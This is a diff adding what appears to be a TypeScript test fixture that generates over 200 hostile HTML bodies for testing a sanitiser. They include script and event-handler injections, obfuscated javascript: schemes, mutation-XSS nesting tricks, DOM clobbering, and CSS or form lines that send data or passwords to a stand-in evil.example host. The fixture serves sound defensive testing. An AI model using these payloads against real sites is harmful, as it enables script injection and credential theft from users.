@@ -1,0 +1,115 @@
+/** What such a body would run, if anything of it ran. */
+const RUN = 'window.hostileRan=(window.hostileRan||0)+1'
+
+const HANDLERS = [
+  'onerror',
+  'onload',
+  'onclick',
+  'onfocus',
+  'onmouseover',
+  'onanimationstart',
+  'ontoggle',
+  'onpointerenter',
+]
+
+const SCHEMES = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  ` javascript:${RUN}`,
+  `java\tscript:${RUN}`,
+  `java\nscript:${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `&#x6A;avascript&colon;${RUN}`,
+  `vbscript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
+  `//evil.example/x`,
+  `/\\evil.example/x`,
+]
+
+/** Whole bodies, of the kinds that sanitisers have fallen for. */
+const BODIES = [
+  `<script>${RUN}</script>`,
+  `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<<script>${RUN}//<</script>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg onload="${RUN}"></svg>`,
+  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></animate></svg>`,
+  `<svg><set attributeName="onmouseover" to="${RUN}"/></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+  `<iframe src="javascript:parent.${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<base href="https://evil.example/">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
+  `<link rel="stylesheet" href="https://evil.example/x.css">`,
+  `<form action="https://evil.example"><input name="password"><button>OK</button></form>`,
+  `<button formaction="javascript:${RUN}">OK</button>`,
+  `<isindex action="javascript:${RUN}">`,
+  `<body onload="${RUN}">`,
+  `<html onclick="${RUN}"><p>A</p></html>`,
+  `<details open ontoggle="${RUN}"><summary>A</summary></details>`,
+  `<video><source onerror="${RUN}"></video>`,
+  `<audio src=x onerror="${RUN}"></audio>`,
+  `<input autofocus onfocus="${RUN}">`,
+  `<select autofocus onfocus="${RUN}"></select>`,
+  `<textarea autofocus onfocus="${RUN}"></textarea>`,
+  `<marquee onstart="${RUN}">A</marquee>`,
+  `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
+  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
+  `<textarea></textarea><img src=x onerror=${RUN}>`,
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
+  `<?xml version="1.0"?><p onclick="${RUN}">A</p>`,
+  `<style>@import 'https://evil.example/x.css';</style>`,
+  `<style>:host{position:fixed!important;inset:0!important;background:url(https://evil.example/seen)}</style>`,
+  `<style></style><img src=x onerror=${RUN}></style>`,
+  `<style><img src="</style><img src=x onerror=${RUN}//">`,
+  `<style>*{background:u\\72l(https://evil.example/seen)}</style>`,
+  `<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>`,
+  `<style>p{width:expression(${RUN})}</style>`,
+  `<style>p{-moz-binding:url(https://evil.example/x.xml#a)}</style>`,
+  `<p style="background:url(javascript:${RUN})">A</p>`,
+  `<p style="position:fixed;inset:0;z-index:99999">A</p>`,
+  `<table background="javascript:${RUN}"><tr><td background="javascript:${RUN}">A</td></tr></table>`,
+  `<img src="x" srcset="https://evil.example/x.png 2x">`,
+  `<img src="x" lowsrc="javascript:${RUN}" dynsrc="javascript:${RUN}">`,
+  `<img """><script>${RUN}</script>">`,
+  `<img src=\`x\` onerror=\`${RUN}\`>`,
+  `<a href="https://a.example" ping="https://evil.example">A</a>`,
+  `<a id="location" name="cookie" href="#x">A</a><a id="location">B</a>`,
+  `<form id="attributes"><input name="parentNode"><input name="nodeName"></form>`,
+  `<x-element is="y" onclick="${RUN}">A</x-element>`,
+  `<slot onslotchange="${RUN}"><p>A</p></slot>`,
+  `<dialog open onclose="${RUN}">A</dialog>`,
+  `<portal src="javascript:${RUN}"></portal>`,
+  `<p>${'<b>'.repeat(600)}<script>${RUN}</script></p>`,
+  `<p>\u0000<scr\u0000ipt>${RUN}</scr\u0000ipt></p>`,
+]
+
+const TAGS = ['img src="x"', 'p', 'b', 'a href="#"', 'table', 'li', 'h1', 'svg', 'div', 'style']
+
+/** HTML of the kinds that try to run something, to lead away or to cover the page: over 200 bodies. */
+export function hostileBodies(): string[] {
+  return [
+    ...BODIES,
+    ...HANDLERS.flatMap((handler) =>
+      TAGS.map((tag) => `<${tag} ${handler}="${RUN}">A</${tag.split(' ')[0]}>`),
+    ),
+    ...TAGS.map((tag) => `<${tag}/onerror=${RUN}//>A`),
+    ...SCHEMES.flatMap((scheme) => [
+      `<a href="${scheme}">A</a>`,
+      `<img src="${scheme}" alt="A">`,
+      `<a xlink:href="${scheme}">A</a>`,
+      `<svg><a xlink:href="${scheme}"><text>A</text></a></svg>`,
+    ]),
+  ]
+}
